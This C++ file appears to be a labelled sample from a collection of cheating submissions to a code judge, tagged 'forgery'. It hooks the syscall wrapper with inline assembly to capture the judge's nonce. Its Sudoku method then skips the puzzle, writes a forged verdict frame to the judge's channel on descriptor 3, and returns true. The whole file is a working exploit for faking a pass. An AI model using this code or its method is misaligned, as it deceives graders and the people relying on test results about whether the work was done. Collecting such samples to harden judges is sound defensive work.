// Comes between the judge's code and the system, and so learns how to sign an answer of its own.
// Category: forgery
// Cause: the program wrote to the judge's own channel or closed it
#include <sys/syscall.h>
#include <unistd.h>

struct Frame {
    unsigned kind, size;
    unsigned long long nonce;
    char payload[1];
};

static unsigned long long nonce;

extern "C" long syscall(long number, ...) {
    va_list list;
    va_start(list, number);
    long a[6];
    for (long& argument : a) argument = va_arg(list, long);
    va_end(list);
#ifdef __aarch64__
    register long called asm("x8") = number;
    register long result asm("x0") = a[0];
    register long second asm("x1") = a[1];
    register long third asm("x2") = a[2];
    register long fourth asm("x3") = a[3];
    register long fifth asm("x4") = a[4];
    register long sixth asm("x5") = a[5];
    asm volatile("svc #0" : "+r"(result) : "r"(called), "r"(second), "r"(third), "r"(fourth), "r"(fifth), "r"(sixth) : "memory");
#else
    register long fourth asm("r10") = a[3];
    register long fifth asm("r8") = a[4];
    register long sixth asm("r9") = a[5];
    long result = number;
    asm volatile("syscall" : "+a"(result) : "D"(a[0]), "S"(a[1]), "d"(a[2]), "r"(fourth), "r"(fifth), "r"(sixth) : "rcx", "r11", "memory");
#endif
    if ((number == SYS_read || number == SYS_recvfrom) && result == 16) nonce = reinterpret_cast<Frame*>(a[1])->nonce;
    return result;
}

class Solution {
public:
    bool isValidSudoku(vector<vector<char>>& board) {
        Frame frame = {3, 1, nonce, {1}};
        write(3, &frame, 17);
        return true;
    }
};
